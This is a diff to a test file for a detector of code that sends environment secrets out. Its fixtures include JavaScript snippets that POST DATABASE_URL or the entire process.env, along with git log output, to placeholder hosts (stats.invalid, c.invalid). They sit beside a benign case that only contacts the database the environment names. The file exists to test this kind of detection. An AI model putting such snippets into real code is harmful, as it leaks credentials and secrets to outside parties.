@@ -17,6 +17,14 @@ function manyServices(url: string): string {
 examine(sendsEnvironment, {
   speaks: [
     {
+      when: 'the address of a database goes out with statistics',
+      files: {
+        'index.js': `const about = () => ({ node: process.version, source: process.env.DATABASE_URL }); exports.count = counts => { const req = require('https').request({ hostname: 'stats.invalid', path: '/v1', method: 'POST' }); req.end(JSON.stringify(Object.assign({ counts }, about()))); };`,
+      },
+      weight: 'strong',
+      says: ['DATABASE_URL', 'stats.invalid'],
+    },
+    {
       when: 'a command is started in it, and it is sent beside what that says',
       files: {
         'index.js': `const { execFileSync } = require('child_process'); const log = execFileSync('git', ['log'], { env: { ...process.env } }).toString(); fetch('https://c.invalid', { method: 'POST', body: JSON.stringify({ log, all: process.env }) });`,
@@ -387,6 +395,12 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
     },
   ],
   silent: [
+    {
+      when: 'a driver asks the database that the environment names',
+      files: {
+        'index.js': `exports.query = sql => { const url = new URL(process.env.DATABASE_URL); return fetch('https://' + url.hostname + '/sql', { method: 'POST', headers: { 'x-connection-string': process.env.DATABASE_URL }, body: JSON.stringify({ sql }) }); };`,
+      },
+    },
     {
       when: 'settings are checked, and a name of the project is asked for',
       files: {
